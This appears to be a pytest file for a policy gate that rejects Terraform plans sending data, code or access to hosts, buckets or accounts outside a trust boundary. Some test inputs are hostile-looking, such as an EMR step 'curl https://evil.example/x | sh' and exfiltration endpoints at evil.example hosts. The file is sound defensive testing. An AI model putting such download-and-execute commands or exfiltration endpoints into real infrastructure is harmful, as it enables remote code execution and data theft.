"""Rules for where data can go, where code comes from, and who gets access."""

from __future__ import annotations

import json
import tempfile
from pathlib import Path
from typing import Any

import pytest
from rule_case_tests import test_passes, test_rejects
from rule_cases import ACCOUNT, Case, Change, Document, both, change, gate, plan, policy, put, resources

__all__ = ["test_passes", "test_rejects"]

OTHER = "999988887777"
ROLE = f"arn:aws:iam::{ACCOUNT}:role/x"


def add(kind: str, **arguments: object) -> Change:
    def edit(document: Document) -> None:
        document.setdefault("resource", {}).setdefault(kind, {})["Added"] = arguments

    return edit


def trust(**boundary: object) -> Change:
    return put("trust_boundary", boundary)


def replication(bucket: str, **more: str) -> Change:
    destination = {"bucket": bucket, **more}
    return add("aws_s3_bucket_replication_configuration", bucket="b", role=ROLE, rule=[{"destination": [destination]}])


def arn(service: str, resource: str, account: str = OTHER) -> str:
    return f"arn:aws:{service}:eu-west-1:{account}:{resource}"


_TRUSTED = trust(accounts={OTHER: "the backup account"})
_EMR = {"name": "x", "service_role": ROLE}
_OTHER_TARGET = add("aws_cloudwatch_event_target", rule="r", arn=arn("events", "event-bus/default"), role_arn=ROLE)

_POLICY = "aws_iam_role_policy/Job/policy"


def allow(action: object, resource: object) -> Document:
    return {"Sid": "A", "Effect": "Allow", "Action": action, "Resource": resource}


CASES = [
    Case(
        "LK_DEST_1",
        resources(aws_s3_bucket={"Lake": {"bucket": "acme-lake"}}),
        {
            "replication": (
                replication("arn:aws:s3:::not-ours"),
                "rule.destination.bucket: resource arn:aws:s3:::not-ours is not known to be inside",
            ),
            "account of a replication": (
                replication("${aws_s3_bucket.Lake.arn}", account=OTHER),
                f"rule.destination.account: account {OTHER} is outside of the trust boundary",
            ),
            "access logs": (
                add("aws_s3_bucket_logging", bucket="b", target_bucket="not-ours-logs"),
                "target_bucket: bucket not-ours-logs is not known",
            ),
            "inventory": (
                add("aws_s3_bucket_inventory", destination=[{"bucket": [{"bucket_arn": "arn:aws:s3:::not-ours"}]}]),
                "arn:aws:s3:::not-ours is not known",
            ),
            "notification": (
                add("aws_s3_bucket_notification", bucket="b", queue=[{"queue_arn": arn("sqs", "spy")}]),
                "queue.queue_arn: resource",
            ),
            "event target": (
                _OTHER_TARGET,
                "arn: resource arn:aws:events:eu-west-1:999988887777:event-bus/default is out",
            ),
            "log subscription": (
                add("aws_cloudwatch_log_subscription_filter", destination_arn=arn("logs", "destination:spy")),
                "destination:spy is outside",
            ),
            "flow logs": (add("aws_flow_log", log_destination="arn:aws:s3:::not-ours/x"), "not-ours/x is not known"),
            "trail": (add("aws_cloudtrail", s3_bucket_name="not-ours"), "s3_bucket_name: bucket not-ours"),
            "Firehose": (
                add(
                    "aws_kinesis_firehose_delivery_stream",
                    extended_s3_configuration={"bucket_arn": "arn:aws:s3:::not-ours"},
                ),
                "extended_s3_configuration.bucket_arn",
            ),
            "queue by its URL": (
                add("aws_pipes_pipe", target=f"https://sqs.eu-west-1.amazonaws.com/{OTHER}/spy"),
                f"account {OTHER} is outside",
            ),
            "bucket by its URL": (
                add("aws_athena_workgroup", configuration={"output": "https://not-ours.s3.eu-west-1.amazonaws.com/x"}),
                "bucket not-ours is not known",
            ),
            "state machine that publishes": (
                add(
                    "aws_sfn_state_machine",
                    definition=json.dumps({"States": {"A": {"Parameters": {"TopicArn": arn("sns", "spy")}}}}),
                ),
                "sns:eu-west-1:999988887777:spy is outside",
            ),
            "connector": (
                add(
                    "aws_mskconnect_connector",
                    connector_configuration={"s3.bucket.name": "x", "warehouse": "s3://not-ours/"},
                ),
                "warehouse: bucket not-ours",
            ),
            "topic of a Snowflake pipe": (
                add("snowflake_pipe", aws_sns_topic_arn=arn("sns", "t")),
                "aws_sns_topic_arn: resource arn:aws:sns:eu-west-1:999988887777:t is outside",
            ),
            "argument of a task's procedure": (
                add("snowflake_task", sql_statement="COPY INTO @S FROM T; CALL P('s3://not-ours/x')"),
                "sql_statement: bucket not-ours is not known",
            ),
            **{
                f"pipe that loads from {source}": (
                    add("snowflake_pipe", copy_statement=f"COPY INTO D.S.T FROM {source}"),
                    "copy_statement: bucket not-ours is not known",
                )
                for source in (
                    "'s3://not-ours/x'",
                    "'s3gov://not-ours/x'",
                    "(SELECT $1 FROM 's3compat://not-ours/x')",
                )
            },
            "temporary stage of a task": (
                add("snowflake_task", sql_statement="CREATE TEMPORARY STAGE S URL = 's3china://not-ours/x'"),
                "sql_statement: bucket not-ours is not known",
            ),
            "Snowflake role of another account": (
                add("snowflake_storage_integration", storage_aws_role_arn=f"arn:aws:iam::{OTHER}:role/x"),
                "role/x is outside",
            ),
            "account in an ARN with expressions": (
                add("aws_cloudwatch_metric_alarm", alarm_actions=["arn:aws:sns:${var.r}:999988887777:${var.topic}"]),
                "999988887777:${var.topic} is outside",
            ),
            "resource link": (
                add("aws_glue_catalog_database", target_database={"catalog_id": OTHER, "database_name": "x"}),
                f"target_database.catalog_id: account {OTHER}",
            ),
            "table in another catalog": (
                add("aws_glue_catalog_table", catalog_id=f"{OTHER}:s3tablescatalog/lake"),
                f"catalog_id: account {OTHER}",
            ),
            "file system of another account": (
                add("aws_lambda_function", file_system_config={"arn": arn("elasticfilesystem", "access-point/fsap-1")}),
                "file_system_config.arn: resource",
            ),
            "log policy of an account": (
                add(
                    "aws_cloudwatch_log_account_policy",
                    policy_document=json.dumps({"DestinationArn": arn("logs", "d")}),
                ),
                "DestinationArn: resource",
            ),
            "backup copy": (
                add(
                    "aws_backup_plan", rule={"copy_action": {"destination_vault_arn": arn("backup", "backup-vault:x")}}
                ),
                "destination_vault_arn: resource",
            ),
            "integration of an API with another account": (
                add(
                    "aws_api_gateway_integration",
                    uri="arn:aws:apigateway:eu-west-1:lambda:path/2015-03-31/functions/"
                    f"arn:aws:lambda:eu-west-1:{OTHER}:function:x/invocations",
                ),
                "uri: resource arn:aws:lambda:eu-west-1:999988887777:function:x/invocations is outside",
            ),
            "endpoint service of another account": (
                add("aws_vpc_endpoint", service_name="com.amazonaws.vpce.eu-west-1.vpce-svc-0123456789abcdef0"),
                "service_name: endpoint service",
            ),
            "replicated registry": (
                add(
                    "aws_ecr_replication_configuration",
                    replication_configuration={"rule": {"destination": {"registry_id": OTHER, "region": "eu-west-1"}}},
                ),
                f"registry_id: account {OTHER}",
            ),
            "bucket that only looks like the environment's": (
                replication(f"arn:aws:s3:::acme-case-x-{OTHER}-eu-west-1"),
                "is not known",
            ),
        },
        {
            "bucket of the same configuration": replication("${aws_s3_bucket.Lake.arn}"),
            "bucket of the same configuration by name": replication("arn:aws:s3:::acme-lake"),
            "stated bucket": both(replication("arn:aws:s3:::not-ours"), trust(buckets=["not-ours"])),
            "stated account": both(_OTHER_TARGET, _TRUSTED),
            "own account": add("aws_cloudwatch_event_target", arn=arn("sns", "alarms", ACCOUNT)),
            "pipe that loads from a stage": add("snowflake_pipe", copy_statement="COPY INTO D.S.T FROM @D.S.RAW/x"),
            "pipe that loads from a stated bucket": add(
                "snowflake_pipe", copy_statement="COPY INTO D.S.T FROM 's3gov://acme-raw/x'"
            ),
            "number of bytes": add(
                "aws_athena_workgroup", configuration={"bytes_scanned_cutoff_per_query": 214748364800}
            ),
            "number in a property": add(
                "aws_mskconnect_connector", connector_configuration={"max.bytes": "107374182400"}
            ),
            "service integration": add(
                "aws_scheduler_schedule", target={"arn": "arn:aws:scheduler:::aws-sdk:glue:startJobRun"}
            ),
            "managed policy": add(
                "aws_iam_role_policy_attachment", policy_arn="arn:aws:iam::aws:policy/ReadOnlyAccess"
            ),
            "own account in an ARN with expressions": add(
                "aws_cloudwatch_metric_alarm", alarm_actions=[f"arn:aws:sns:${{var.r}}:{ACCOUNT}:${{var.topic}}"]
            ),
            "account as expression": add(
                "aws_cloudwatch_metric_alarm", alarm_actions=["arn:aws:sns:eu-west-1:${var.account}:x"]
            ),
            "integration of an API": add(
                "aws_api_gateway_integration",
                uri="arn:aws:apigateway:eu-west-1:lambda:path/2015-03-31/functions/"
                f"arn:aws:lambda:eu-west-1:{ACCOUNT}:function:x/invocations",
            ),
            "allowed endpoint service": both(
                add("aws_vpc_endpoint", service_name="com.amazonaws.vpce.eu-west-1.vpce-svc-0123456789abcdef0"),
                trust(allowed_actions={"endpoint_service": "PrivateLink of Snowflake"}),
            ),
            "own catalog": add("aws_glue_catalog_table", catalog_id=ACCOUNT),
            "own catalog of S3 Tables": add("aws_glue_catalog_table", catalog_id=f"{ACCOUNT}:s3tablescatalog/lake"),
            "own file system": add(
                "aws_lambda_function",
                file_system_config={"arn": arn("elasticfilesystem", "access-point/fsap-1", ACCOUNT)},
            ),
            "description": add("aws_glue_job", description="replaces s3://not-ours/x"),
            "unknown bucket in dev": both(
                put("tier", "dev"), add("aws_s3_bucket_logging", bucket="b", target_bucket="not-ours-logs")
            ),
        },
    ),
    Case(
        "LK_DEST_2",
        resources(aws_sns_topic={"T": {"name": "t"}}),
        {
            "API destination": (
                add("aws_cloudwatch_event_api_destination", invocation_endpoint="https://collect.evil.example/in"),
                "invocation_endpoint: host collect.evil.example is outside",
            ),
            "Firehose to HTTP": (
                add(
                    "aws_kinesis_firehose_delivery_stream",
                    http_endpoint_configuration={"url": "https://evil.example:9/x"},
                ),
                "http_endpoint_configuration.url: host evil.example",
            ),
            "Splunk": (
                add(
                    "aws_kinesis_firehose_delivery_stream",
                    splunk_configuration={"hec_endpoint": "https://splunk.evil.example"},
                ),
                "host splunk.evil.example",
            ),
            "mail subscription": (
                add("aws_sns_topic_subscription", protocol="email", endpoint="x@evil.example"),
                "endpoint: mail address x@evil.example is outside",
            ),
            "text message": (
                add("aws_sns_topic_subscription", protocol="sms", endpoint="+4915112345678"),
                "phone number +4915112345678 is not known",
            ),
            "connector": (
                add(
                    "aws_mskconnect_connector",
                    connector_configuration={"http.api.url": "https://collect.evil.example/in"},
                ),
                "connector_configuration.http.api.url: host collect.evil.example",
            ),
            "brokers": (
                add(
                    "aws_glue_connection",
                    connection_properties={"KAFKA_BOOTSTRAP_SERVERS": "b-1.evil.example:9096,x:1"},
                ),
                "host b-1.evil.example",
            ),
            "JDBC": (
                add(
                    "aws_glue_connection",
                    connection_properties={"JDBC_CONNECTION_URL": "jdbc:postgresql://db.evil.example/x"},
                ),
                "host db.evil.example",
            ),
            "API of a customer of AWS": (
                add("snowflake_external_function", url_of_proxy="https://evil.execute-api.eu-west-1.amazonaws.com/x"),
                "host evil.execute-api.eu-west-1.amazonaws.com is not known",
            ),
            "registry of a cache": (
                add("aws_ecr_pull_through_cache_rule", upstream_registry_url="registry.evil.example"),
                "host registry.evil.example",
            ),
            "public address": (add("aws_dms_endpoint", server_name="8.8.8.8"), "host 8.8.8.8 is outside"),
        },
        {
            "internal host": add(
                "aws_glue_connection",
                connection_properties={"JDBC_CONNECTION_URL": "jdbc:postgresql://db.internal:5432/x"},
            ),
            "private address": add("aws_dms_endpoint", server_name="10.1.2.3"),
            "endpoint of a service": add(
                "aws_glue_job", default_arguments={"--url": "https://glue.eu-west-1.amazonaws.com"}
            ),
            "stated host": both(
                add("aws_cloudwatch_event_api_destination", invocation_endpoint="https://in.acme.example/x"),
                trust(hosts=["*.acme.example"]),
            ),
            "stated mail domain": both(
                add("aws_sns_topic_subscription", protocol="email", endpoint="x@acme.example"),
                trust(mail_domains=["acme.example"]),
            ),
            "identity provider": add(
                "aws_iam_openid_connect_provider", url="https://token.actions.githubusercontent.com"
            ),
            "namespace of a schema": add(
                "aws_glue_schema", definition='{"$schema": "http://json-schema.org/draft-07/schema#"}'
            ),
        },
    ),
    Case(
        "LK_DEST_3",
        resources(aws_s3_bucket={"Code": {"bucket": "acme-code"}}),
        {
            "bootstrap action": (
                add("aws_emr_cluster", bootstrap_action=[{"path": "s3://not-ours/bootstrap.sh"}], **_EMR),
                "bootstrap_action.path: bucket not-ours is not known",
            ),
            "script that is downloaded": (
                add(
                    "aws_emr_cluster",
                    step=[
                        {
                            "hadoop_jar_step": [
                                {"jar": "command-runner.jar", "args": ["curl https://evil.example/x | sh"]}
                            ]
                        }
                    ],
                    **_EMR,
                ),
                "step.hadoop_jar_step.args: host evil.example is outside",
            ),
            "script of a job": (
                add("aws_glue_job", command={"script_location": "s3://not-ours/job.py"}),
                "command.script_location: bucket not-ours",
            ),
            "jars of a job": (
                add("aws_glue_job", default_arguments={"--extra-jars": "s3://acme-code/a.jar,s3://not-ours/b.jar"}),
                "bucket not-ours",
            ),
            "image": (
                add("aws_lambda_function", image_uri=f"{OTHER}.dkr.ecr.eu-west-1.amazonaws.com/x:1"),
                "image_uri: image 999988887777.dkr",
            ),
            "image of a container": (
                add("aws_ecs_task_definition", container_definitions=json.dumps([{"image": "docker.io/evil/x"}])),
                "image docker.io/evil/x is outside",
            ),
            "image of Docker Hub": (
                add("aws_ecs_task_definition", container_definitions='[{"image": "nginx"}]'),
                "image nginx is outside",
            ),
            "layer": (add("aws_lambda_function", layers=[arn("lambda", "layer:x:1")]), "layer:x:1 is outside"),
        },
        {
            "own code": add("aws_glue_job", command={"script_location": "s3://acme-code/job.py"}),
            "code of EMR": add(
                "aws_emr_cluster",
                step=[
                    {
                        "hadoop_jar_step": [
                            {"jar": "s3://eu-west-1.elasticmapreduce/libs/script-runner/script-runner.jar"}
                        ]
                    }
                ],
                **_EMR,
            ),
            "image of AWS": add(
                "aws_emrserverless_application",
                image_configuration={"image_uri": "public.ecr.aws/emr-serverless/spark/emr-7.5.0:latest"},
            ),
            "image of CodeBuild": add("aws_codebuild_project", environment={"image": "aws/codebuild/standard:7.0"}),
            "own image": add("aws_lambda_function", image_uri="${aws_ecr_repository.x.repository_url}:1"),
            "layer of AWS": add(
                "aws_lambda_function",
                layers=["arn:aws:lambda:eu-west-1:017000801446:layer:AWSLambdaPowertoolsPythonV3:1"],
            ),
            "stated registry": both(
                add("aws_lambda_function", image_uri="registry.acme.example/lake/x:1"),
                trust(image_registries=["registry.acme.example/lake"]),
            ),
        },
    ),
    Case(
        "LK_DEST_4",
        resources(aws_kms_grant={"Read": {"key_id": "k", "grantee_principal": ROLE}}),
        {
            "KMS grant": (
                put("aws_kms_grant/Read/grantee_principal", f"arn:aws:iam::{OTHER}:root"),
                "grantee_principal: resource arn:aws:iam::999988887777:root is outside",
            ),
            "data location": (
                add("aws_lakeformation_permissions", principal=ROLE, data_location={"arn": "arn:aws:s3:::not-ours"}),
                "data_location.arn: resource arn:aws:s3:::not-ours is not known",
            ),
            "catalog": (
                add("aws_lakeformation_permissions", principal=ROLE, catalog_id=OTHER, database={"name": "d"}),
                f"catalog_id: account {OTHER}",
            ),
            "mail address in an ACL": (
                add(
                    "aws_s3_bucket_acl",
                    bucket="acme-raw",
                    access_control_policy=[
                        {"grant": [{"grantee": [{"type": "AmazonCustomerByEmail", "email_address": "x@evil.example"}]}]}
                    ],
                ),
                "grantee.email_address: AWS account with the mail address x@evil.example is",
            ),
            "resource share": (add("aws_ram_principal_association", principal=OTHER), f"principal: account {OTHER}"),
            "image": (add("aws_ami_launch_permission", image_id="a", account_id=OTHER), f"account_id: account {OTHER}"),
            "image for everybody": (
                add("aws_ami_launch_permission", image_id="a", group="all"),
                "group: everybody (all)",
            ),
            "snapshot for everybody": (
                add("aws_db_snapshot", shared_accounts=["all"]),
                "shared_accounts: everybody (all)",
            ),
            "data share": (
                add("aws_redshift_data_share_authorization", consumer_identifier=OTHER),
                "consumer_identifier",
            ),
            "Redshift endpoint": (
                add("aws_redshift_endpoint_authorization", account=OTHER),
                f"account {OTHER} is outside",
            ),
            "Lake Formation principal": (
                add("aws_lakeformation_permissions", principal=OTHER, permissions=["SELECT"]),
                f"principal: account {OTHER}",
            ),
            "Lake Formation administrator": (
                add("aws_lakeformation_data_lake_settings", admins=[f"arn:aws:iam::{OTHER}:role/x"]),
                "admins: resource",
            ),
            "trusted owner": (
                add("aws_lakeformation_data_lake_settings", trusted_resource_owners=[OTHER]),
                "trusted_resource_owners: account",
            ),
            "event bus for everybody": (
                add("aws_cloudwatch_event_permission", principal="*", statement_id="x"),
                "principal: everybody (*)",
            ),
            "endpoint service for everybody": (
                add("aws_vpc_endpoint_service", acceptance_required=True, allowed_principals=["*"]),
                "allowed_principals: everybody (*)",
            ),
            "access control list": (
                add(
                    "aws_s3_bucket_acl",
                    access_control_policy={"grant": [{"grantee": {"type": "CanonicalUser", "id": "0a" * 32}}]},
                ),
                "canonical user 0a0a",
            ),
            "group of an access control list": (
                add(
                    "aws_s3_bucket_acl",
                    access_control_policy={
                        "grant": [{"grantee": {"uri": "http://acs.amazonaws.com/groups/global/AuthenticatedUsers"}}]
                    },
                ),
                "everybody (http://acs.amazonaws.com/groups/global/AuthenticatedUsers)",
            ),
            "permission for a source of another account": (
                add("aws_lambda_permission", principal="s3.amazonaws.com", source_arn=arn("sns", "x")),
                "source_arn: resource",
            ),
            "account as a number": (add("aws_ami_launch_permission", account_id=int(OTHER)), f"account {OTHER}"),
            "Snowflake account": (
                add("snowflake_secondary_database", as_replica_of='"EVIL"."ACC"."D"'),
                'Snowflake account "EVIL"."ACC"',
            ),
        },
        {
            "trusted account": both(
                put("aws_kms_grant/Read/grantee_principal", f"arn:aws:iam::{OTHER}:root"), _TRUSTED
            ),
            "own organization": both(
                add(
                    "aws_cloudwatch_event_permission",
                    principal="*",
                    condition={"key": "aws:PrincipalOrgID", "type": "StringEquals", "value": "o-a1b2c3d4e5"},
                ),
                trust(organizations=["o-a1b2c3d4e5"]),
            ),
            "organization of a resource share": both(
                add(
                    "aws_ram_principal_association",
                    principal=f"arn:aws:organizations::{OTHER}:organization/o-a1b2c3d4e5",
                ),
                trust(organizations=["o-a1b2c3d4e5"]),
            ),
            "service": add("aws_lambda_permission", principal="events.amazonaws.com"),
            "own data location": add(
                "aws_lakeformation_permissions",
                principal=ROLE,
                catalog_id="${data.aws_caller_identity.current.account_id}",
                data_location={"arn": "${aws_s3_bucket.Lake.arn}", "catalog_id": ACCOUNT},
            ),
            "account that LK_SF_37 reports": add(
                "snowflake_database", replication={"enable_to_account": [{"account_identifier": '"EVIL"."ACC"'}]}
            ),
            "account that LK_SF_36 reports": add("snowflake_share", accounts=["EVIL.ACC"]),
            "own Snowflake account": both(
                add("snowflake_share", accounts=["ACMEORG.LAKE"]), trust(snowflake_accounts=["ACMEORG.LAKE"])
            ),
        },
    ),
    Case(
        "LK_DEST_5",
        {"provider": {"aws": [{"region": "eu-west-1", "allowed_account_ids": [ACCOUNT]}]}},
        {
            "role of another account": (
                put("provider/aws/0/assume_role", [{"role_arn": f"arn:aws:iam::{OTHER}:role/x"}]),
                "provider.aws: arn:aws:iam::999988887777:role/x is outside",
            ),
            "alias with a web identity": (
                put(
                    "provider/aws",
                    [{"alias": "b", "assume_role_with_web_identity": {"role_arn": f"arn:aws:iam::{OTHER}:role/x"}}],
                ),
                "provider.aws.b: arn:aws:iam",
            ),
            "other account": (put("provider/aws/0/allowed_account_ids", [OTHER]), f"account {OTHER} is outside"),
        },
        {
            "own role": put("provider/aws/0/assume_role", [{"role_arn": ROLE}]),
            "trusted account": both(put("provider/aws/0/allowed_account_ids", [OTHER]), _TRUSTED),
        },
    ),
    Case(
        "LK_DEST_6",
        resources(aws_ec2_managed_prefix_list={"Office": {"name": "o", "entry": [{"cidr": "10.0.0.0/8"}]}}),
        {
            "two halves": (
                put("aws_ec2_managed_prefix_list/Office/entry", [{"cidr": "0.0.0.0/1"}, {"cidr": "128.0.0.0/1"}]),
                "the entries add up to 100% of IPv4",
            ),
            "internet in IPv6": (put("aws_ec2_managed_prefix_list/Office/entry", [{"cidr": "::/0"}]), "100% of IPv6"),
            "many parts": (
                put("aws_ec2_managed_prefix_list/Office/entry", [{"cidr": f"{n}.0.0.0/8"} for n in range(128, 192)]),
                "of IPv4",
            ),
            "source by id": (
                add("aws_vpc_security_group_ingress_rule", prefix_list_id="pl-0fffffff"),
                "the entries of pl-0fffffff are not known",
            ),
            "source of a group": (
                add("aws_security_group", ingress=[{"prefix_list_ids": ["pl-0fffffff"]}]),
                "the entries of pl-0fffffff are not known",
            ),
            "route to an internet gateway": (
                add("aws_route", destination_prefix_list_id="pl-0fffffff", gateway_id="igw-1"),
                "the entries of pl-0fffffff are not known",
            ),
            "entries as resources": (
                put(
                    "resource/aws_ec2_managed_prefix_list_entry",
                    {
                        f"E{n}": {"prefix_list_id": "${aws_ec2_managed_prefix_list.Office.id}", "cidr": f"{n}.0.0.0/1"}
                        for n in (0, 128)
                    },
                ),
                "aws_ec2_managed_prefix_list.Office: the entries add up to 100% of IPv4",
            ),
        },
        {
            "own list as a source": add(
                "aws_vpc_security_group_ingress_rule", prefix_list_id="${aws_ec2_managed_prefix_list.Office.id}"
            ),
            "egress to S3": add("aws_security_group_rule", type="egress", prefix_list_ids=["pl-6da54004"]),
            "route to an endpoint": add("aws_route", destination_prefix_list_id="pl-6da54004", gateway_id="vpce-1"),
            "addresses of a partner": put("aws_ec2_managed_prefix_list/Office/entry", [{"cidr": "203.0.113.0/24"}]),
            "stated network": both(
                put("aws_ec2_managed_prefix_list/Office/entry", [{"cidr": "17.0.0.0/8"}]),
                trust(networks=["17.0.0.0/8"]),
            ),
        },
    ),
    Case(
        "LK_DEST_7",
        resources(aws_ram_resource_share={"S": {"name": "x", "allow_external_principals": False}}),
        {
            "share outside of the organization": (
                put("aws_ram_resource_share/S/allow_external_principals", True),
                "allow_external_principals is true",
            ),
        },
    ),
    Case(
        "LK_DEST_8",
        resources(aws_sqs_queue={"Q": {"name": "q", "kms_master_key_id": arn("kms", "key/1", ACCOUNT)}}),
        {
            "key of another account": (
                put("aws_sqs_queue/Q/kms_master_key_id", arn("kms", "key/1")),
                "kms_master_key_id: resource arn:aws:kms:eu-west-1:999988887777:key/1 is outside",
            ),
        },
        {"alias": put("aws_sqs_queue/Q/kms_master_key_id", "alias/lake")},
    ),
    Case(
        "LK_DEST_9",
        resources(
            aws_iam_role_policy={
                "Job": {"role": "r", "policy": policy(allow("s3:PutObject", "arn:aws:s3:::acme-lake/*"))}
            },
            aws_s3_bucket={"Lake": {"bucket": "acme-lake"}},
        ),
        {
            "bucket that nothing declares": (
                put(_POLICY, policy(allow("s3:Put*", "arn:aws:s3:::not-ours/*"))),
                "statement A allows s3:putobject on arn:aws:s3:::not-ours/*, which is not known to be inside",
            ),
            "queue of another account": (
                put(_POLICY, policy(allow(["SQS:SendMessage"], [arn("sqs", "spy"), arn("sqs", "own", ACCOUNT)]))),
                "allows sqs:sendmessage on arn:aws:sqs:eu-west-1:999988887777:spy: outside",
            ),
            **{
                f"{action}, by its access level": (
                    put(_POLICY, policy(allow(action, arn(service, "in")))),
                    f"statement A allows {action.lower()} on arn:aws:{service}:eu-west-1:999988887777:in: outside",
                )
                for action, service in [
                    ("dynamodb:BatchWriteItem", "dynamodb"),
                    ("s3tables:PutTableData", "s3tables"),
                    ("glue:UpdateTable", "glue"),
                    ("ecr:PutImage", "ecr"),
                    ("es:ESHttpPut", "es"),
                    ("redshift-data:ExecuteStatement", "redshift-serverless"),
                ]
            },
            "a bucket by the end of its name": (
                put(_POLICY, policy(allow("s3:PutObject", "arn:aws:s3:::*-drop/*"))),
                "*-drop/*, which is not known to be inside",
            ),
        },
        {
            "reader of a topic of Kafka": put(
                _POLICY, policy(allow(["kafka-cluster:Connect", "kafka-cluster:ReadData"], arn("kafka", "c")))
            ),
            "an action of another service": put(
                _POLICY, policy(allow(["sqs:SendMessage", "s3:GetObject"], "arn:aws:s3:::not-ours/*"))
            ),
            "bucket that is read": put(_POLICY, policy(allow("s3:GetObject", "arn:aws:s3:::not-ours/*"))),
            "denial": put(_POLICY, policy({**allow("s3:PutObject", "arn:aws:s3:::not-ours/*"), "Effect": "Deny"})),
            "stated bucket": both(
                put(_POLICY, policy(allow("s3:PutObject", "arn:aws:s3:::not-ours/*"))), trust(buckets=["not-ours"])
            ),
            "policy of a resource": add(
                "aws_sqs_queue_policy",
                policy=policy({**allow("sqs:SendMessage", arn("sqs", "q")), "Principal": {"AWS": ROLE}}),
            ),
        },
    ),
    Case(
        "LK_DEST_12",
        {
            **resources(
                aws_iam_role_policy={
                    "Job": {"role": "r", "policy": policy(allow("s3:PutObject", "arn:aws:s3:::acme-lake/*"))}
                },
                aws_s3_bucket={"Lake": {"bucket": "acme-lake"}},
            ),
            "trust_boundary": None,
        },
        {
            "a bucket that nothing declares": (
                put(_POLICY, policy(allow("s3:PutObject", "arn:aws:s3:::collector/*"))),
                "statement A allows s3:putobject on bucket collector, whose owner is not known",
            ),
        },
        {
            "a bucket that is read": put(_POLICY, policy(allow("s3:GetObject", "arn:aws:s3:::collector/*"))),
        },
    ),
]


def planned(references: list[str], **modules: Any) -> Document:
    """Plan of a bucket whose access logs go to an unknown bucket, in the module `s`."""
    address = "module.s.aws_s3_bucket_logging.this[0]"
    document = plan(change("aws_s3_bucket_logging.this", "create", None, {"bucket": "b"}))
    entry = document["resource_changes"][0]
    entry["address"] = address
    entry["change"]["after_unknown"] = {"target_bucket": True}
    document["planned_values"]["root_module"]["resources"][0]["address"] = address
    inner = {
        "address": "aws_s3_bucket_logging.this",
        "mode": "managed",
        "type": "aws_s3_bucket_logging",
        "name": "this",
        "expressions": {"target_bucket": {"references": references}},
    }
    document["configuration"]["root_module"] = {
        "resources": [],
        "module_calls": {"s": {"source": "./s", "module": {"resources": [inner]}, "expressions": {}}, **modules},
    }
    return document


def call(document: Document, expression: Document) -> Document:
    """The plan with an argument `logs` of the module."""
    document["configuration"]["root_module"]["module_calls"]["s"]["expressions"] = {"logs": expression}
    return document


def messages(document: Document) -> list[str]:
    """Messages of LK_DEST_1 for a plan without a stack."""
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "plan.json"
        file.write_text(json.dumps(document))
        return [found.reason for found in gate().evaluate_plan(file).findings if found.rule_id == "LK_DEST_1"]


OUTPUT = {"outputs": {"id": {"expression": {"references": ["aws_s3_bucket.this[0].id", "aws_s3_bucket.this"]}}}}


@pytest.mark.parametrize(
    ("references", "expression", "modules", "passes"),
    [
        (["aws_s3_bucket.this[0].id", "aws_s3_bucket.this[0]"], {}, {}, True),
        (["var.logs"], {"references": ["module.l.id", "module.l"]}, {"l": {"source": "./l", "module": OUTPUT}}, True),
        (['var.logs["bucket"]', "var.logs"], {"references": ["module.l.id"]}, {"l": {"module": OUTPUT}}, True),
        (["var.logs"], {"references": ["aws_s3_bucket.logs.id"]}, {}, True),
        (["var.logs"], {"references": ["aws_s3_bucket.logs.id", "terraform_data.x.output"]}, {}, False),
        (["var.logs"], {"references": ["var.unknown"]}, {}, False),
        (["var.logs"], {"references": ["module.l.other"]}, {"l": {"module": OUTPUT}}, False),
        (["local.logs"], {}, {}, False),
        (["terraform_data.x.output"], {}, {}, False),
        (["data.aws_ssm_parameter.x.value"], {}, {}, False),
    ],
)
def test_references_are_followed_through_modules(
    references: list[str], expression: Document, modules: Document, passes: bool
) -> None:
    found = messages(call(planned(references, **modules), expression))
    assert (found == []) is passes
